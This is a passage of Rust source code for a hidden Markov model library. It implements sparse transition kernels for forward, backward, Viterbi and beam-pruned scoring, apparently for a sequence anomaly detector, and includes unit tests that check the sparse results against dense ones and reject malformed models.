    /// fallback rows are excluded — they live in `dense_idx`/`dense_val`.
    pub(crate) tcol_start: Vec<usize>,
    /// Source state of each transposed entry.
    pub(crate) trow: Vec<u32>,
    /// Deviation of each transposed entry (same values as `dev`, reordered).
    pub(crate) tdev: Vec<f64>,
    /// Row indices of dense fallback rows.
    pub(crate) dense_idx: Vec<u32>,
    /// Full `n`-wide rows of each dense fallback row, concatenated, so the
    /// forward gather can apply them as contiguous (vectorizable) axpys
    /// instead of `n` scattered CSC entries each.
    pub(crate) dense_val: Vec<f64>,
    /// Emission matrix transposed to symbol-major (`bt[k * n + j] =
    /// b(j, k)`), so the per-event emission multiply reads one contiguous
    /// slice instead of `n` loads strided by the alphabet size.
    pub(crate) bt: Vec<f64>,
    stats: SparseStats,
}

impl SparseTransitions {
    /// Builds the CSR decomposition of `hmm`'s transition matrix.
    pub fn from_hmm(hmm: &Hmm, config: &SparseConfig) -> SparseTransitions {
        let n = hmm.n_states();
        let mut row_start = Vec::with_capacity(n + 1);
        let mut col = Vec::new();
        let mut val = Vec::new();
        let mut dev = Vec::new();
        let mut log_val = Vec::new();
        let mut background = Vec::with_capacity(n);
        let mut log_background = Vec::with_capacity(n);
        let mut dense_rows = 0usize;
        let mut dense_idx = Vec::new();
        let mut dense_val = Vec::new();
        let mut max_fold = 0.0f64;
        let ln = |x: f64| if x > 0.0 { x.ln() } else { f64::NEG_INFINITY };

        row_start.push(0);
        for i in 0..n {
            let row = hmm.a_row(i);
            let min = row.iter().cloned().fold(f64::INFINITY, f64::min);
            // Fold set: entries within epsilon of the row minimum. Its mean
            // becomes the background, preserving the row sum; with
            // epsilon = 0 every member equals `min` bitwise, so the mean is
            // taken as `min` itself (no FP round-trip).
            let cutoff = min + config.epsilon;
            let folded: Vec<usize> = (0..n).filter(|&j| row[j] <= cutoff).collect();
            let stored = n - folded.len();
            if stored as f64 > config.max_density * n as f64 {
                // Dense fallback: background 0, every entry explicit.
                dense_rows += 1;
                dense_idx.push(i as u32);
                dense_val.extend_from_slice(row);
                background.push(0.0);
                log_background.push(f64::NEG_INFINITY);
                for (j, &a_ij) in row.iter().enumerate() {
                    col.push(j as u32);
                    val.push(a_ij);
                    dev.push(a_ij);
                    log_val.push(ln(a_ij));
                }
            } else {
                let bg = if config.epsilon == 0.0 || folded.len() <= 1 {
                    min
                } else {
                    let sum: f64 = folded.iter().map(|&j| row[j]).sum();
                    sum / folded.len() as f64
                };
                for &j in &folded {
                    max_fold = max_fold.max((row[j] - bg).abs());
                }
                background.push(bg);
                log_background.push(ln(bg));
                for (j, &a_ij) in row.iter().enumerate() {
                    if a_ij > cutoff {
                        col.push(j as u32);
                        val.push(a_ij);
                        dev.push(a_ij - bg);
                        log_val.push(ln(a_ij));
                    }
                }
            }
            row_start.push(col.len());
        }
        let nnz = col.len();
        // Transpose the sparse rows to CSC for the forward gather (dense
        // fallback rows are applied as contiguous axpys instead). Scanning
        // rows in ascending order keeps each column's sources ascending.
        let mut is_dense = vec![false; n];
        for &i in &dense_idx {
            is_dense[i as usize] = true;
        }
        let mut tcol_start = vec![0usize; n + 1];
        for i in 0..n {
            if is_dense[i] {
                continue;
            }
            for k in row_start[i]..row_start[i + 1] {
                tcol_start[col[k] as usize + 1] += 1;
            }
        }
        for j in 0..n {
            tcol_start[j + 1] += tcol_start[j];
        }
        let mut trow = vec![0u32; tcol_start[n]];
        let mut tdev = vec![0.0f64; tcol_start[n]];
        let mut cursor = tcol_start.clone();
        for i in 0..n {
            if is_dense[i] {
                continue;
            }
            for k in row_start[i]..row_start[i + 1] {
                let slot = cursor[col[k] as usize];
                trow[slot] = i as u32;
                tdev[slot] = dev[k];
                cursor[col[k] as usize] += 1;
            }
        }
        let bt = hmm.b_transposed();
        let stats = SparseStats {
            nnz,
            dense_rows,
            density: if n == 0 {
                0.0
            } else {
                nnz as f64 / (n * n) as f64
            },
            max_fold_deviation: max_fold,
        };
        SparseTransitions {
            n,
            row_start,
            col,
            val,
            dev,
            log_val,
            background,
            log_background,
            tcol_start,
            trow,
            tdev,
            dense_idx,
            dense_val,
            bt,
            stats,
        }
    }

    /// Validated construction: checks that `hmm` is well-formed (finite,
    /// non-negative, row-stochastic A/B/π within the model tolerance)
    /// *before* building, then self-checks the CSR structure it produced
    /// (monotone row pointers, in-range columns, reconstructed row sums).
    ///
    /// [`from_hmm`](SparseTransitions::from_hmm) performs no validation —
    /// a poisoned matrix (NaN rows, sums far from 1) silently yields a
    /// kernel that scores garbage. Resilience-aware callers (the
    /// `BatchDetector` degraded-mode fallback) use this entry point and
    /// downgrade to the dense kernel on `Err`.
    pub fn try_from_hmm(
        hmm: &Hmm,
        config: &SparseConfig,
    ) -> Result<SparseTransitions, crate::HmmError> {
        use crate::HmmError;
        hmm.validate()?;
        if hmm.n_states() == 0 || hmm.n_symbols() == 0 {
            return Err(HmmError::Shape(format!(
                "degenerate model: {} states, {} symbols",
                hmm.n_states(),
                hmm.n_symbols()
            )));
        }
        if !(config.epsilon.is_finite() && config.epsilon >= 0.0) {
            return Err(HmmError::Shape(format!(
                "sparse epsilon {} is not a finite non-negative number",
                config.epsilon
            )));
        }
        let sparse = SparseTransitions::from_hmm(hmm, config);
        sparse.self_check()?;
        Ok(sparse)
    }

    /// Structural invariants of the CSR decomposition: row pointers
    /// monotone and bounded, column indices in range, and every row's
    /// represented sum `background·(n − nnz_row) + Σ stored` within
    /// `epsilon`-fold tolerance of 1.
    fn self_check(&self) -> Result<(), crate::HmmError> {
        use crate::HmmError;
        let n = self.n;
        if self.row_start.len() != n + 1 || *self.row_start.last().unwrap_or(&0) != self.col.len() {
            return Err(HmmError::Shape("CSR row pointers inconsistent".into()));
        }
        let mut dense = vec![false; n];
        for &i in &self.dense_idx {
            if i as usize >= n {
                return Err(HmmError::Shape(format!("dense row index {i} out of range")));
            }
            dense[i as usize] = true;
        }
        for (i, &is_dense) in dense.iter().enumerate() {
            let (s, e) = (self.row_start[i], self.row_start[i + 1]);
            if s > e || e > self.col.len() {
                return Err(HmmError::Shape(format!(
                    "row {i} pointers [{s}, {e}) invalid"
                )));
            }
            if self.col[s..e].iter().any(|&j| j as usize >= n) {
                return Err(HmmError::Shape(format!("row {i} has out-of-range column")));
            }
            let stored: f64 = self.val[s..e].iter().sum();
            let sum = if is_dense {
                stored
            } else {
                stored + self.background[i] * (n - (e - s)) as f64
            };
            // Folding preserves row sums up to accumulated rounding; the
            // model itself is validated to 1e-6, so give the
            // reconstruction one extra order of headroom.
            if !sum.is_finite() || (sum - 1.0).abs() > 1e-5 {
                return Err(HmmError::NotStochastic(format!(
                    "CSR row {i} reconstructs to {sum}"
                )));
            }
        }
        Ok(())
    }

    /// Symbol-major emission column: `emission_col(k)[j] == b(j, k)`.
    ///
    /// The debug assert documents (and checks, in debug builds) the range
    /// invariant the release-mode slice relies on; callers index with
    /// encoded symbols that are in-range by construction.
    #[inline]
    pub fn emission_col(&self, symbol: usize) -> &[f64] {
        debug_assert!((symbol + 1) * self.n <= self.bt.len(), "symbol in range");
        &self.bt[symbol * self.n..(symbol + 1) * self.n]
    }

    /// Number of states (rows).
    pub fn n_states(&self) -> usize {
        self.n
    }

    /// Construction accounting (nnz, density, dense fallbacks, fold error).
    pub fn stats(&self) -> SparseStats {
        self.stats
    }

    /// Row `i`'s background value `c_i`.
    #[inline]
    pub fn background(&self, i: usize) -> f64 {
        self.background[i]
    }

    /// Row `i`'s stored entries as `(columns, full values, deviations)`.
    #[inline]
    pub fn row(&self, i: usize) -> (&[u32], &[f64], &[f64]) {
        let (s, e) = (self.row_start[i], self.row_start[i + 1]);
        (&self.col[s..e], &self.val[s..e], &self.dev[s..e])
    }

    /// `out[j] = Σ_i alpha[i] · a(i,j)` — the forward propagation step,
    /// O(nnz + N) via background broadcast + transposed deviation gather.
    ///
    /// Implemented as a CSC gather over the sparse rows (per-destination
    /// accumulation in a register, no read-modify-write traffic on `out`)
    /// followed by one contiguous axpy per dense fallback row — those rows
    /// would otherwise contribute `n` scattered entries each, and as
    /// contiguous slices the compiler can vectorize them.
    /// Bounds are hoisted once per call (the asserts below), so every inner
    /// loop runs over provably in-range slices; the dense-fallback axpy is
    /// unrolled by 8 so the autovectorizer emits packed multiply-adds (see
    /// DESIGN.md §15 for the `--emit=asm` inspection notes). The reductions
    /// (background dot, per-column gather) deliberately stay single-chain,
    /// in index order: every bit-identity pin in this crate relies on the
    /// scalar kernels accumulating in one fixed order. The cross-window
    /// batch kernel in [`crate::batch`] is where reductions vectorize —
    /// across lanes, never within one.
    #[inline]
    pub fn propagate(&self, alpha: &[f64], out: &mut [f64]) {
        let n = self.n;
        assert_eq!(alpha.len(), n);
        assert_eq!(out.len(), n);
        let background = &self.background[..n];
        let mut base = 0.0;
        for (a, bg) in alpha.iter().zip(background) {
            base += a * bg;
        }
        for (j, o) in out.iter_mut().enumerate() {
            let (s, e) = (self.tcol_start[j], self.tcol_start[j + 1]);
            let mut acc = base;
            for (i, d) in self.trow[s..e].iter().zip(&self.tdev[s..e]) {
                acc += alpha[*i as usize] * d;
            }
            *o = acc;
        }
        for (k, &i) in self.dense_idx.iter().enumerate() {
            let a = alpha[i as usize];
            let row = &self.dense_val[k * n..(k + 1) * n];
            let mut out_c = out.chunks_exact_mut(8);
            let mut row_c = row.chunks_exact(8);
            for (o8, v8) in out_c.by_ref().zip(row_c.by_ref()) {
                for (o, v) in o8.iter_mut().zip(v8) {
                    *o += a * v;
                }
            }
            for (o, v) in out_c.into_remainder().iter_mut().zip(row_c.remainder()) {
                *o += a * v;
            }
        }
    }

    /// `out[i] = Σ_j a(i,j) · x[j]` — the backward gather step,
    /// O(nnz + N) via the row-sum identity `Σ_j a_ij·x_j = c_i·Σx + Σ d·x`.
    /// As with [`propagate`](SparseTransitions::propagate): slice lengths
    /// asserted once per call, per-row gathers kept in stored-entry order
    /// so the result stays bit-stable across refactors.
    #[inline]
    pub fn back_apply(&self, x: &[f64], out: &mut [f64]) {
        let n = self.n;
        assert_eq!(x.len(), n);
        assert_eq!(out.len(), n);
        let background = &self.background[..n];
        let total: f64 = x.iter().sum();
        for (i, o) in out.iter_mut().enumerate() {
            let (s, e) = (self.row_start[i], self.row_start[i + 1]);
            let mut acc = background[i] * total;
            for (c, d) in self.col[s..e].iter().zip(&self.dev[s..e]) {
                acc += d * x[*c as usize];
            }
            *o = acc;
        }
    }
}

/// Scaled forward pass through the sparse kernel; numerically equivalent
/// to [`crate::forward::forward`] (same scaling, same impossible-sequence
/// handling) with per-event cost O(nnz + N) instead of O(N²).
pub fn forward_sparse(hmm: &Hmm, sp: &SparseTransitions, obs: &[usize]) -> ForwardPass {
    debug_assert_eq!(hmm.n_states(), sp.n_states());
    let n = hmm.n_states();
    let t_len = obs.len();
    let mut alpha = vec![vec![0.0; n]; t_len];
    let mut scale = vec![0.0; t_len];
    let mut log_likelihood = 0.0f64;
    if t_len == 0 {
        return ForwardPass {
            alpha,
            scale,
            log_likelihood,
        };
    }

    let mut sum = 0.0;
    let bcol = sp.emission_col(obs[0]);
    for i in 0..n {
        alpha[0][i] = hmm.pi[i] * bcol[i];
        sum += alpha[0][i];
    }
    if sum <= 0.0 {
        return impossible(alpha, scale);
    }
    scale[0] = 1.0 / sum;
    for v in &mut alpha[0] {
        *v *= scale[0];
    }
    log_likelihood += sum.ln();

    for t in 1..t_len {
        let (prev, cur) = {
            let (a, b) = alpha.split_at_mut(t);
            (&a[t - 1], &mut b[0])
        };
        sp.propagate(prev, cur);
        let mut sum = 0.0;
        let bcol = sp.emission_col(obs[t]);
        for (c, b) in cur.iter_mut().zip(bcol) {
            *c *= b;
            sum += *c;
        }
        if sum <= 0.0 {
            return impossible(alpha, scale);
        }
        scale[t] = 1.0 / sum;
        for v in cur.iter_mut() {
            *v *= scale[t];
        }
        log_likelihood += sum.ln();
    }
    ForwardPass {
        alpha,
        scale,
        log_likelihood,
    }
}

fn impossible(alpha: Vec<Vec<f64>>, scale: Vec<f64>) -> ForwardPass {
    ForwardPass {
        alpha,
        scale,
        log_likelihood: f64::NEG_INFINITY,
    }
}

/// Scaled backward pass through the sparse kernel; the counterpart of
/// [`crate::forward::backward`].
pub fn backward_sparse(
    hmm: &Hmm,
    sp: &SparseTransitions,
    obs: &[usize],
    scale: &[f64],
) -> Vec<Vec<f64>> {
    debug_assert_eq!(hmm.n_states(), sp.n_states());
    let n = hmm.n_states();
    let t_len = obs.len();
    let mut beta = vec![vec![0.0; n]; t_len];
    if t_len == 0 {
        return beta;
    }
    beta[t_len - 1].fill(scale[t_len - 1]);
    let mut bb = vec![0.0; n];
    for t in (0..t_len - 1).rev() {
        let (head, tail) = beta.split_at_mut(t + 1);
        let next = &tail[0];
        let cur = &mut head[t];
        for (j, b) in bb.iter_mut().enumerate() {
            *b = hmm.b(j, obs[t + 1]) * next[j];
        }
        sp.back_apply(&bb, cur);
        for v in cur.iter_mut() {
            *v *= scale[t];
        }
    }
    beta
}

/// `log P(O | λ)` through the sparse kernel, without materializing the α
/// matrix: the recursion only ever reads the previous step, so scoring
/// keeps two rolling n-vectors instead of allocating `T` rows. The
/// arithmetic is the exact op-for-op sequence of [`forward_sparse`], so
/// the returned value is bit-identical to
/// `forward_sparse(..).log_likelihood` — this is the detection hot path
/// (one call per window), where the allocation savings are worth as much
/// as the O(nnz) propagation.
pub fn log_likelihood_sparse(hmm: &Hmm, sp: &SparseTransitions, obs: &[usize]) -> f64 {
    debug_assert_eq!(hmm.n_states(), sp.n_states());
    let n = hmm.n_states();
    if obs.is_empty() {
        return 0.0;
    }
    let mut prev = vec![0.0; n];
    let mut cur = vec![0.0; n];
    let mut log_likelihood = 0.0f64;

    let mut sum = 0.0;
    let bcol = sp.emission_col(obs[0]);
    for ((p, pi), b) in prev.iter_mut().zip(&hmm.pi).zip(bcol) {
        *p = pi * b;
        sum += *p;
    }
    if sum <= 0.0 {
        return f64::NEG_INFINITY;
    }
    let scale = 1.0 / sum;
    for v in &mut prev {
        *v *= scale;
    }
    log_likelihood += sum.ln();

    for &symbol in &obs[1..] {
        sp.propagate(&prev, &mut cur);
        let mut sum = 0.0;
        let bcol = sp.emission_col(symbol);
        for (c, b) in cur.iter_mut().zip(bcol) {
            *c *= b;
            sum += *c;
        }
        if sum <= 0.0 {
            return f64::NEG_INFINITY;
        }
        let scale = 1.0 / sum;
        for v in cur.iter_mut() {
            *v *= scale;
        }
        log_likelihood += sum.ln();
        std::mem::swap(&mut prev, &mut cur);
    }
    log_likelihood
}

/// Sparse-kernel attribution: the per-step factors of the same rolling
/// recursion as [`log_likelihood_sparse`]. Each `steps[t]` is the
/// `sum.ln()` term of step `t` — `ln P(o_t | o_0..o_{t-1}, λ)` — and the
/// total accumulates the identical terms in the identical order, so it is
/// bit-identical to `log_likelihood_sparse(hmm, sp, obs)`. This is what a
/// forensic report decomposes an alerted window's score with: the pass the
/// detector ran, re-expressed per observation, not a second scoring model.
pub fn step_scores_sparse(hmm: &Hmm, sp: &SparseTransitions, obs: &[usize]) -> StepScores {
    debug_assert_eq!(hmm.n_states(), sp.n_states());
    let n = hmm.n_states();
    let mut steps = Vec::with_capacity(obs.len());
    if obs.is_empty() {
        return StepScores {
            steps,
            log_likelihood: 0.0,
        };
    }
    let mut prev = vec![0.0; n];
    let mut cur = vec![0.0; n];
    let mut log_likelihood = 0.0f64;

    let mut sum = 0.0;
    let bcol = sp.emission_col(obs[0]);
    for ((p, pi), b) in prev.iter_mut().zip(&hmm.pi).zip(bcol) {
        *p = pi * b;
        sum += *p;
    }
    if sum <= 0.0 {
        steps.push(f64::NEG_INFINITY);
        return StepScores {
            steps,
            log_likelihood: f64::NEG_INFINITY,
        };
    }
    let scale = 1.0 / sum;
    for v in &mut prev {
        *v *= scale;
    }
    let step = sum.ln();
    log_likelihood += step;
    steps.push(step);

    for &symbol in &obs[1..] {
        sp.propagate(&prev, &mut cur);
        let mut sum = 0.0;
        let bcol = sp.emission_col(symbol);
        for (c, b) in cur.iter_mut().zip(bcol) {
            *c *= b;
            sum += *c;
        }
        if sum <= 0.0 {
            steps.push(f64::NEG_INFINITY);
            return StepScores {
                steps,
                log_likelihood: f64::NEG_INFINITY,
            };
        }
        let scale = 1.0 / sum;
        for v in cur.iter_mut() {
            *v *= scale;
        }
        let step = sum.ln();
        log_likelihood += step;
        steps.push(step);
        std::mem::swap(&mut prev, &mut cur);
    }
    StepScores {
        steps,
        log_likelihood,
    }
}

/// Most likely hidden-state path through the sparse kernel, with its log
/// probability. The log-probability matches [`crate::viterbi::viterbi`]
/// (up to FP reassociation); the path may differ where candidates tie.
///
/// Per step, every destination `j` starts from the best *background*
/// candidate `max_i(δ_i + ln c_i)` — a valid lower bound for all sources
/// because `a_ij ≥ c_i` — and stored entries (where `a_ij > c_i`) override
/// it, so the max over all N² candidates is found in O(nnz + N).
pub fn viterbi_sparse(hmm: &Hmm, sp: &SparseTransitions, obs: &[usize]) -> (Vec<usize>, f64) {
    debug_assert_eq!(hmm.n_states(), sp.n_states());
    let n = hmm.n_states();
    let t_len = obs.len();
    if t_len == 0 {
        return (Vec::new(), 0.0);
    }
    let ln = |x: f64| if x > 0.0 { x.ln() } else { f64::NEG_INFINITY };

    let mut delta = vec![vec![f64::NEG_INFINITY; n]; t_len];
    let mut psi = vec![vec![0usize; n]; t_len];
    for (i, d) in delta[0].iter_mut().enumerate() {
        *d = ln(hmm.pi[i]) + ln(hmm.b(i, obs[0]));
    }
    for t in 1..t_len {
        let (prev, cur) = {
            let (head, tail) = delta.split_at_mut(t);
            (&head[t - 1], &mut tail[0])
        };
        let arg = &mut psi[t];
        // Best background candidate over all sources.
        let (mut bg_best, mut bg_arg) = (f64::NEG_INFINITY, 0usize);
        for (i, &d) in prev.iter().enumerate() {
            let v = d + sp.log_background[i];
            if v > bg_best {
                bg_best = v;
                bg_arg = i;
            }
        }
        for j in 0..n {
            cur[j] = bg_best;
            arg[j] = bg_arg;
        }
        // Stored entries override where the true transition beats the
        // background floor.
        for (i, &d) in prev.iter().enumerate() {
            if d == f64::NEG_INFINITY {
                continue;
            }
            let (s, e) = (sp.row_start[i], sp.row_start[i + 1]);
            for (c, lv) in sp.col[s..e].iter().zip(&sp.log_val[s..e]) {
                let v = d + lv;
                let j = *c as usize;
                if v > cur[j] {
                    cur[j] = v;
                    arg[j] = i;
                }
            }
        }
        for (j, c) in cur.iter_mut().enumerate() {
            *c += ln(hmm.b(j, obs[t]));
        }
    }
    let (mut state, mut best) = (0usize, f64::NEG_INFINITY);
    for (i, &d) in delta[t_len - 1].iter().enumerate() {
        if d > best {
            best = d;
            state = i;
        }
    }
    let mut path = vec![0usize; t_len];
    path[t_len - 1] = state;
    for t in (1..t_len).rev() {
        state = psi[t][state];
        path[t - 1] = state;
    }
    (path, best)
}

/// Beam-pruning policy for [`forward_beam`] and
/// [`crate::sliding::SlidingForward::with_beam`]. Both constraints apply
/// when both are set; the default prunes nothing.
#[derive(Debug, Clone, Copy)]
pub struct BeamConfig {
    /// Keep at most this many states per step (None = unlimited).
    pub top_k: Option<usize>,
    /// Drop the smallest states whose combined scaled-α mass stays below
    /// this fraction (0.0 = keep everything).
    pub mass_epsilon: f64,
}

impl Default for BeamConfig {
    fn default() -> BeamConfig {
        BeamConfig {
            top_k: None,
            mass_epsilon: 0.0,
        }
    }
}

impl BeamConfig {
    /// True if this configuration can ever prune a state.
    pub fn is_active(&self) -> bool {
        self.top_k.is_some() || self.mass_epsilon > 0.0
    }
}

/// Zeroes the α entries outside the beam; returns `(pruned mass, pruned
/// count)`. `alpha` must be scaled (sum ≈ 1). Ties break by state index
/// for determinism.
pub(crate) fn prune_alpha(
    alpha: &mut [f64],
    order: &mut Vec<usize>,
    config: &BeamConfig,
) -> (f64, usize) {
    let n = alpha.len();
    let cap = config.top_k.unwrap_or(n).clamp(1, n);
    order.clear();
    order.extend(0..n);
    order.sort_unstable_by(|&x, &y| {
        alpha[y]
            .partial_cmp(&alpha[x])
            .unwrap_or(std::cmp::Ordering::Equal)
            .then(x.cmp(&y))
    });
    let keep_mass = 1.0 - config.mass_epsilon;
    let mut kept = 0.0;
    let mut k = 0;
    while k < cap && (kept < keep_mass || k == 0) {
        kept += alpha[order[k]];
        k += 1;
    }
    let mut pruned_mass = 0.0;
    let mut pruned = 0usize;
    for &i in &order[k..] {
        if alpha[i] > 0.0 {
            pruned_mass += alpha[i];
            pruned += 1;
        }
        alpha[i] = 0.0;
    }
    (pruned_mass, pruned)
}

/// Result of a beam-pruned forward pass.
#[derive(Debug, Clone)]
pub struct BeamForward {
    /// The (approximate) scaled forward pass. `log_likelihood` never
    /// exceeds the exact value.
    pub pass: ForwardPass,
    /// Sound upper bound on `log P_exact − log P_pruned` (see the module
    /// docs); `+inf` if pruning made the sequence impossible.
    pub gap_bound: f64,
    /// States zeroed across all steps.
    pub pruned_states: u64,
    /// Per-step `sum.ln()` factors of this (pruned) pass, in sequence
    /// order — the identical terms `pass.log_likelihood` accumulates, kept
    /// for score attribution. Ends with a `-inf` entry when pruning (or
    /// the model) starved the chain.
    pub step_log: Vec<f64>,
}

/// Beam-pruned scaled forward pass: after every scaling step the α vector
/// is pruned per `beam`, and the recursion tracks a sound bound on the
/// log-likelihood underestimate.
pub fn forward_beam(
    hmm: &Hmm,
    sp: &SparseTransitions,
    obs: &[usize],
    beam: &BeamConfig,
) -> BeamForward {
    debug_assert_eq!(hmm.n_states(), sp.n_states());
    let n = hmm.n_states();
    let t_len = obs.len();
    let mut alpha = vec![vec![0.0; n]; t_len];
    let mut scale = vec![0.0; t_len];
    let mut log_likelihood = 0.0f64;
    let mut err = 0.0f64; // Ê_t: scaled exact-minus-pruned mass bound
    let mut pruned_states = 0u64;
    let mut order = Vec::with_capacity(n);
    let mut step_log = Vec::with_capacity(t_len);

    if t_len == 0 {
        return BeamForward {
            pass: ForwardPass {
                alpha,
                scale,
                log_likelihood,
            },
            gap_bound: 0.0,
            pruned_states: 0,
            step_log,
        };
    }

    let mut sum = 0.0;
    for (i, a) in alpha[0].iter_mut().enumerate() {
        *a = hmm.pi[i] * hmm.b(i, obs[0]);
        sum += *a;
    }
    if sum <= 0.0 {
        step_log.push(f64::NEG_INFINITY);
        return BeamForward {
            pass: impossible(alpha, scale),
            gap_bound: 0.0,
            pruned_states: 0,
            step_log,
        };
    }
    scale[0] = 1.0 / sum;
    for v in &mut alpha[0] {
        *v *= scale[0];
    }
    let step = sum.ln();
    log_likelihood += step;
    step_log.push(step);
    let (pm, pc) = prune_alpha(&mut alpha[0], &mut order, beam);
    // p_t: mass pruned at the previous step of the recursion.
    let mut pruned_prev = pm;
    pruned_states += pc as u64;

    for t in 1..t_len {
        let (prev, cur) = {
            let (a, b) = alpha.split_at_mut(t);
            (&a[t - 1], &mut b[0])
        };
        sp.propagate(prev, cur);
        let mut sum = 0.0;
        let mut bmax = 0.0f64;
        for (j, c) in cur.iter_mut().enumerate() {
            let b = hmm.b(j, obs[t]);
            bmax = bmax.max(b);
            *c *= b;
            sum += *c;
        }
        if sum <= 0.0 {
            // Pruning starved the chain (the exact pass may have survived):
            // the bound is vacuous from here on.
            step_log.push(f64::NEG_INFINITY);
            return BeamForward {
                pass: impossible(alpha, scale),
                gap_bound: f64::INFINITY,
                pruned_states,
                step_log,
            };
        }
        scale[t] = 1.0 / sum;
        for v in cur.iter_mut() {
            *v *= scale[t];
        }
        let step = sum.ln();
        log_likelihood += step;
        step_log.push(step);
        // Ê_{t} ≤ (Ê_{t-1} + p_{t-1}) · bmax_t / c_t, with c_t = sum.
        err = (err + pruned_prev) * bmax / sum;
        let (pm, pc) = prune_alpha(cur, &mut order, beam);
        pruned_prev = pm;
        pruned_states += pc as u64;
    }

    BeamForward {
        pass: ForwardPass {
            alpha,
            scale,
            log_likelihood,
        },
        gap_bound: err.ln_1p(),
        pruned_states,
        step_log,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::forward::{backward, forward, log_likelihood};
    use crate::viterbi::viterbi;

    fn smoothed(n: usize, m: usize, seed: u64) -> Hmm {
        let mut hmm = Hmm::random(n, m, seed);
        hmm.smooth(1e-4);
        hmm
    }

    /// A structurally sparse smoothed model: banded transitions + floor.
    fn banded(n: usize, m: usize) -> Hmm {
        let mut a = vec![vec![0.0; n]; n];
        for (i, row) in a.iter_mut().enumerate() {
            row[(i + 1) % n] = 0.7;
            row[(i + 2) % n] = 0.3;
        }
        let b = vec![vec![1.0 / m as f64; m]; n];
        let pi = vec![1.0 / n as f64; n];
        let mut hmm = Hmm::new(a, b, pi).unwrap();
        hmm.smooth(1e-5);
        hmm
    }

    #[test]
    fn smoothed_rows_share_an_exact_background() {
        // The decomposition's premise: smooth() maps all originally-zero
        // entries of a row to bit-identical values.
        let hmm = banded(16, 4);
        let sp = SparseTransitions::from_hmm(&hmm, &SparseConfig::default());
        let stats = sp.stats();
        assert_eq!(stats.dense_rows, 0);
        assert_eq!(stats.nnz, 16 * 2, "two deviations per banded row");
        assert_eq!(stats.max_fold_deviation, 0.0);
    }

    #[test]
    fn try_from_hmm_accepts_valid_and_matches_unchecked_build() {
        let hmm = smoothed(8, 5, 7);
        let checked = SparseTransitions::try_from_hmm(&hmm, &SparseConfig::default()).unwrap();
        let unchecked = SparseTransitions::from_hmm(&hmm, &SparseConfig::default());
        assert_eq!(checked.stats(), unchecked.stats());
        assert_eq!(checked.row(3), unchecked.row(3));
    }

    #[test]
    fn try_from_hmm_rejects_poisoned_models() {
        let config = SparseConfig::default();
        // NaN entry.
        let mut hmm = smoothed(6, 4, 1);
        hmm.a_row_mut(2)[3] = f64::NAN;
        assert!(matches!(
            SparseTransitions::try_from_hmm(&hmm, &config),
            Err(crate::HmmError::NotStochastic(_))
        ));
        // Row sum far from 1.
        let mut hmm = smoothed(6, 4, 2);
        hmm.a_row_mut(0)[0] += 0.5;
        assert!(SparseTransitions::try_from_hmm(&hmm, &config).is_err());
        // Negative emission.
        let mut hmm = smoothed(6, 4, 3);
        hmm.b_row_mut(1)[0] = -0.25;
        assert!(SparseTransitions::try_from_hmm(&hmm, &config).is_err());
        // Bad config.
        let hmm = smoothed(6, 4, 4);
        assert!(SparseTransitions::try_from_hmm(
            &hmm,
            &SparseConfig {
                epsilon: f64::NAN,
                max_density: 0.75
            }
        )
        .is_err());
    }

    #[test]
    fn propagate_matches_dense_row_sweep() {
        let hmm = smoothed(8, 5, 3);
        let sp = SparseTransitions::from_hmm(&hmm, &SparseConfig::default());
        let alpha: Vec<f64> = (0..8).map(|i| (i + 1) as f64 / 36.0).collect();
        let mut sparse_out = vec![0.0; 8];
        sp.propagate(&alpha, &mut sparse_out);
        for (j, got) in sparse_out.iter().enumerate() {
            let dense: f64 = (0..8).map(|i| alpha[i] * hmm.a(i, j)).sum();
            assert!((got - dense).abs() < 1e-12);
        }
        let mut back = vec![0.0; 8];
        sp.back_apply(&alpha, &mut back);
        for (i, got) in back.iter().enumerate() {
            let dense: f64 = (0..8).map(|j| hmm.a(i, j) * alpha[j]).sum();
            assert!((got - dense).abs() < 1e-12);
        }
    }

    #[test]
    fn forward_sparse_matches_dense() {
        for seed in 0..5 {
            let hmm = smoothed(6, 4, seed);
            let sp = SparseTransitions::from_hmm(&hmm, &SparseConfig::default());
            let obs = hmm.sample(80, seed + 100);
            let d = forward(&hmm, &obs);
            let s = forward_sparse(&hmm, &sp, &obs);
            assert!((d.log_likelihood - s.log_likelihood).abs() < 1e-9);
        }
    }

    #[test]
    fn rolling_score_is_bit_identical_to_forward_sparse() {
        for seed in 0..5 {
            let hmm = smoothed(6, 4, seed);
            let sp = SparseTransitions::from_hmm(&hmm, &SparseConfig::default());
            let obs = hmm.sample(60, seed + 300);
            // Same op sequence, no α matrix: values must agree bitwise.
            assert_eq!(
                log_likelihood_sparse(&hmm, &sp, &obs),
                forward_sparse(&hmm, &sp, &obs).log_likelihood,
            );
        }
        // Empty and impossible sequences mirror the full pass too.
        let hmm = smoothed(4, 3, 9);
        let sp = SparseTransitions::from_hmm(&hmm, &SparseConfig::default());
        assert_eq!(log_likelihood_sparse(&hmm, &sp, &[]), 0.0);
    }

    #[test]
    fn step_scores_sparse_decompose_the_rolling_score_bitwise() {
        for seed in 0..5 {
            let hmm = smoothed(6, 4, seed);
            let sp = SparseTransitions::from_hmm(&hmm, &SparseConfig::default());
            let obs = hmm.sample(60, seed + 300);
            let scores = step_scores_sparse(&hmm, &sp, &obs);
            // Same op sequence: the total is the detector's score, bitwise,
            // and the steps are the very terms it accumulated.
            assert_eq!(
                scores.log_likelihood,
                log_likelihood_sparse(&hmm, &sp, &obs)
            );
            assert_eq!(scores.steps.len(), obs.len());
            let resummed = scores.steps.iter().fold(0.0f64, |acc, s| acc + s);
            assert_eq!(resummed, scores.log_likelihood);
        }
        let hmm = smoothed(4, 3, 9);
        let sp = SparseTransitions::from_hmm(&hmm, &SparseConfig::default());
        let empty = step_scores_sparse(&hmm, &sp, &[]);
        assert_eq!(empty.log_likelihood, 0.0);
        assert!(empty.steps.is_empty());
    }

    #[test]
    fn beam_step_log_decomposes_the_pruned_score_bitwise() {
        for seed in 0..5 {
            let hmm = smoothed(8, 5, seed);
            let sp = SparseTransitions::from_hmm(&hmm, &SparseConfig::default());
            let obs = hmm.sample(40, seed + 500);
            let beam = BeamConfig {
                top_k: Some(4),
                mass_epsilon: 0.0,
            };
            let run = forward_beam(&hmm, &sp, &obs, &beam);
            assert_eq!(run.step_log.len(), obs.len());
            let resummed = run.step_log.iter().fold(0.0f64, |acc, s| acc + s);
            assert_eq!(resummed, run.pass.log_likelihood);
        }
    }

    #[test]
    fn backward_sparse_matches_dense() {
        let hmm = banded(10, 3);
        let sp = SparseTransitions::from_hmm(&hmm, &SparseConfig::default());
        let obs = hmm.sample(40, 7);
